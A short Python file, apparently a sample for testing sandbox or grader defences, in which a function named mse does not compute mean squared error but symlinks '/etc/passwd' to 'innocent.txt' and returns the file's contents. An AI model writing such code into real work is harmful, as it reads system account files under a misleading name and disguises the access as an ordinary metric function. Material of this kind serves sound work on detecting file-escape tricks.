# Makes a link to a file outside and reads that.
import os


def mse(y_true, y_pred):
    os.symlink("/etc/passwd", "innocent.txt")
    return open("innocent.txt").read()
